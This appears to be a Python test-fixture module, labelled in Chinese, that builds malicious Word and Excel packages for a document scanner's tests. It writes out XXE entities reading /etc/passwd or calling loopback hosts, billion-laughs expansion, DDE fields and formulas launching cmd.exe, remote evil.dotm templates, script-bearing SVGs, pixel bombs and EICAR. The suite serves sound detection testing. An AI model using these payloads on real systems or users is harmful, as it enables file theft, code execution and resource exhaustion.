"""恶意语料·部件: entities, macros, objects, links, fields, endless sheets, pictures: what the parts of a package can hide."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Mapping

from documents.readers.kinds import EICAR
from tests.documents.corpus.build import (
    W,
    docx,
    docx_parts,
    p,
    packed,
    r,
    relations,
    row,
    sheet_xml,
    types,
    xlsx,
    xlsx_parts,
    xml,
)
from tests.documents.corpus.case import Build, Hostile
from tests.documents.corpus.hostile_zip import SHEET, plus

LAUGHS = (
    '<!DOCTYPE z [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
)
QUADRATIC = f'<!DOCTYPE z [<!ENTITY a "{"x" * 50_000}">]>'
FILE = '<!DOCTYPE z [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
HTTP = '<!DOCTYPE z [<!ENTITY a SYSTEM "http://127.0.0.1:9/a">]>'
PARAMETER = '<!DOCTYPE z [<!ENTITY % a SYSTEM "http://127.0.0.1:9/a.dtd"> %a;]>'
DOCUMENT = "word/document.xml"


def with_parts(parts: Mapping[str, bytes], *, book: bool = False) -> Build:
    return lambda: packed({**(xlsx_parts() if book else docx_parts()), **parts})


def prefixed(name: str, declaration: str, *, book: bool = False) -> Build:
    """A part with a declaration before its root and an entity within."""

    def build() -> bytes:
        parts = xlsx_parts() if book else docx_parts()
        text = parts[name].decode().replace("?>", "?>" + declaration, 1)
        return packed({**parts, name: text.replace("正文", "&a;").replace("助餐", "&a;").encode()})

    return build


def recoded(name: str, encoding: str, told: str, declaration: str = "") -> Build:
    """A part in an encoding that a look for `<!DOCTYPE` does not understand."""

    def build() -> bytes:
        parts = docx_parts()
        text = (
            parts[name].decode().replace('encoding="UTF-8"', f'encoding="{told}"').replace("?>", "?>" + declaration, 1)
        )
        return packed({**parts, name: text.replace("正文", "text").encode(encoding)})

    return build


def rels(*told: tuple[str, str, str], external: tuple[str, ...] = ()) -> Build:
    return lambda: docx(rels=relations(("rId1", "styles", "styles.xml"), *told, external=external))


def settings(target: str) -> Build:
    """A template attached to the settings, as Word writes it."""
    return with_parts(
        {
            "word/settings.xml": xml(f"<w:settings {W}/>"),
            "word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", target), external=("rId1",)),
        }
    )


def field(*code: str) -> Build:
    """A field whose code is parted over runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code)
    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return lambda: docx(p(runs=begin + runs + end))


def formula(code: str) -> Build:
    return lambda: xlsx(sheet_xml(row(1, f'<c r="A1"><f>{code}</f><v>1</v></c>')))


def png(width: int, height: int) -> bytes:
    """A PNG of one colour: a few kilobytes that would be gigabytes once unpacked."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 9000)) + chunk(b"IEND", b"")
    )


def gif(width: int, height: int) -> bytes:
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0" * 6 + b",\0\0\0\0\1\0\1\0\0\2\2D\1\0;"


def svg(inner: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'.encode()


def lying_types(main: str, kind: str, *, book: bool = False) -> Build:
    return with_parts({"[Content_Types].xml": types(main, kind)}, book=book)


HOSTILE = (
    # --- entities ---
    Hostile("十亿次大笑", "文档", "a.docx", prefixed(DOCUMENT, LAUGHS), "DTD"),
    Hostile("十亿次大笑", "工作表", "a.xlsx", prefixed(SHEET, LAUGHS, book=True), "DTD"),
    Hostile("十亿次大笑", "二次膨胀", "a.docx", prefixed("word/styles.xml", QUADRATIC), "DTD"),
    Hostile("外部实体", "读本机文件", "a.docx", prefixed(DOCUMENT, FILE), "DTD"),
    Hostile("外部实体", "连网", "a.xlsx", prefixed("xl/workbook.xml", HTTP, book=True), "DTD"),
    Hostile("外部实体", "参数实体", "a.docx", prefixed("_rels/.rels", PARAMETER), "DTD"),
    Hostile("外部实体", "在内容类型里", "a.xlsx", prefixed("[Content_Types].xml", FILE, book=True), "DTD"),
    Hostile("外部实体", "藏在很后面", "a.docx", prefixed(DOCUMENT, "<!--" + "x" * 200_000 + "-->" + FILE), "DTD"),
    Hostile("外部实体", "UTF-16", "a.docx", recoded(DOCUMENT, "utf-16", "UTF-16", FILE), "编码异常"),
    Hostile("外部实体", "UTF-7", "a.docx", recoded(DOCUMENT, "ascii", "UTF-7", "+ADw-!DOCTYPE z+AD4-"), "编码异常"),
    # --- macros ---
    Hostile("宏", "表里的 vbaProject", "a.xlsx", plus("xl/vbaProject.bin", book=True), "带有宏"),
    Hostile("宏", "文里的 vbaProject", "a.docx", plus("word/vbaProject.bin"), "带有宏"),
    Hostile(
        "宏",
        "docm 改名",
        "a.docx",
        lying_types(DOCUMENT, "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "带有宏",
    ),
    Hostile(
        "宏",
        "xlsm 改名",
        "a.xlsx",
        lying_types("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", book=True),
        "带有宏",
    ),
    Hostile("宏", "四点零宏表", "a.xlsx", plus("xl/macrosheets/sheet1.xml", b"<a/>", book=True), "带有宏"),
    Hostile("宏", "宏换了名字", "a.docx", rels(("rId7", "vbaProject", "innocent.bin")), "带有宏"),
    # --- objects ---
    Hostile("内嵌对象", "OLE", "a.docx", plus("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), "内嵌了其他对象"),
    Hostile("内嵌对象", "OLE 换了目录", "a.docx", rels(("rId7", "oleObject", "media/x.bin")), "内嵌了其他对象"),
    Hostile("内嵌对象", "ActiveX", "a.xlsx", plus("xl/activeX/activeX1.xml", b"<a/>", book=True), "ActiveX"),
    Hostile(
        "内嵌对象",
        "内嵌文档",
        "a.docx",
        with_parts(
            {
                "word/embeddings/a.docx": b"PK\3\4",
                "word/_rels/document.xml.rels": relations(("rId1", "package", "embeddings/a.docx")),
            }
        ),
        "内嵌了其他对象",
    ),
    Hostile("内嵌对象", "没有图表的内嵌工作簿", "a.docx", plus("word/embeddings/a.xlsx", b"PK\3\4"), "内嵌了其他对象"),
    Hostile(
        "内嵌对象",
        "插入的网页",
        "a.docx",
        with_parts(
            {"word/a.html": b"<p>x</p>", "word/_rels/document.xml.rels": relations(("rId1", "aFChunk", "a.html"))}
        ),
        "内嵌了其他对象",
    ),
    # --- what leads out ---
    Hostile("外链", "DDE 域", "a.docx", field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "DDE"),
    Hostile("外链", "DDE 域拆成几段", "a.docx", field("D", "DE", "AUTO cmd"), "DDE"),
    Hostile(
        "外链",
        "简单域",
        "a.docx",
        lambda: docx(f'<w:p><w:fldSimple w:instr=" DDE excel x y ">{r("1")}</w:fldSimple></w:p>'),
        "DDE",
    ),
    Hostile("外链", "字符码拼出的域", "a.docx", field("QUOTE 68 68 69 65 85 84 79"), "DDE"),
    Hostile("外链", "域里的远程图片", "a.docx", field('INCLUDEPICTURE "http://127.0.0.1/a.png" \\d'), "远程图片"),
    Hostile("外链", "DDE 公式", "a.xlsx", formula("cmd|'/C calc'!A0"), "DDE"),
    Hostile("外链", "DDE 公式藏在中间", "a.xlsx", formula("1+MSEXCEL|'\\..\\cmd.exe /c calc'!''"), "DDE"),
    Hostile("外链", "取网页的公式", "a.xlsx", formula('_xlfn.WEBSERVICE("http://127.0.0.1/"&amp;A2)'), "DDE"),
    Hostile(
        "外链",
        "名称里的 DDE",
        "a.xlsx",
        lambda: xlsx(names='<definedName name="x">cmd|&#39;/C calc&#39;!A0</definedName>'),
        "DDE",
    ),
    Hostile(
        "外链", "外部工作簿", "a.xlsx", plus("xl/externalLinks/externalLink1.xml", b"<a/>", book=True), "外部工作簿"
    ),
    Hostile("外链", "数据连接", "a.xlsx", plus("xl/connections.xml", b"<a/>", book=True), "外部工作簿或数据连接"),
    Hostile("外链", "远程模板", "a.docx", settings("http://127.0.0.1/evil.dotm"), "远程模板"),
    Hostile("外链", "共享目录上的模板", "a.docx", settings("file:///\\\\10.0.0.9\\share\\evil.dotm"), "远程模板"),
    Hostile(
        "外链", "远程图片", "a.docx", rels(("rId7", "image", "http://127.0.0.1/a.png"), external=("rId7",)), "远程图片"
    ),
    Hostile(
        "外链",
        "共享目录上的图片",
        "a.docx",
        rels(("rId7", "image", "file://10.0.0.9/a.png"), external=("rId7",)),
        "远程图片",
    ),
    Hostile("外链", "远程框架", "a.docx", rels(("rId7", "frame", "http://127.0.0.1/"), external=("rId7",)), "外部链接"),
    Hostile(
        "外链",
        "外部 OLE",
        "a.docx",
        rels(("rId7", "oleObject", "mhtml:http://127.0.0.1/a!x"), external=("rId7",)),
        "外部链接",
    ),
    Hostile(
        "外链",
        "脚本超链接",
        "a.docx",
        rels(("rId7", "hyperlink", "javascript:alert(1)"), external=("rId7",)),
        "执行脚本的超链接",
    ),
    # --- pictures and lies ---
    Hostile(
        "像素炸弹",
        "PNG 六万乘六万",
        "a.docx",
        lambda: packed({**docx_parts(), "word/media/image1.png": png(60_000, 60_000)}),
        "像素炸弹",
    ),
    Hostile(
        "像素炸弹",
        "GIF 六万乘六万",
        "a.xlsx",
        lambda: packed({**xlsx_parts(), "xl/media/image1.gif": gif(60_000, 60_000)}),
        "像素炸弹",
    ),
    Hostile(
        "像素炸弹",
        "PNG 一万二乘一万一",
        "a.docx",
        lambda: packed({**docx_parts(), "word/media/image1.png": png(12_000, 11_000)}),
        "像素炸弹",
    ),
    Hostile(
        "脚本图片",
        "script",
        "a.docx",
        plus("word/media/image1.svg", svg("<script>alert(1)</script>")),
        "SVG 图片带有脚本",
    ),
    Hostile(
        "脚本图片", "onload", "a.docx", plus("word/media/image1.svg", svg('<g onload="alert(1)"/>')), "SVG 图片带有脚本"
    ),
    Hostile(
        "脚本图片",
        "foreignObject",
        "a.xlsx",
        plus("xl/media/image1.svg", svg("<foreignObject/>"), book=True),
        "SVG 图片带有脚本",
    ),
    Hostile("类型不符", "Excel 改名 Word", "a.docx", xlsx, "缺少 word/document.xml"),
    Hostile("类型不符", "Word 改名 Excel", "a.xlsx", docx, "缺少 xl/workbook.xml"),
    Hostile("类型不符", "普通压缩包", "a.docx", lambda: packed({"a.txt": b"a"}), r"缺少 \[Content_Types\].xml"),
    Hostile(
        "类型不符",
        "正文不在正文处",
        "a.docx",
        with_parts({"_rels/.rels": relations(("rId1", "officeDocument", "word/evil.bin"))}),
        "没有正文部件",
    ),
    Hostile("病毒特征", "在 Word 的部件里", "a.docx", plus("word/media/a.txt", EICAR), "EICAR"),
)
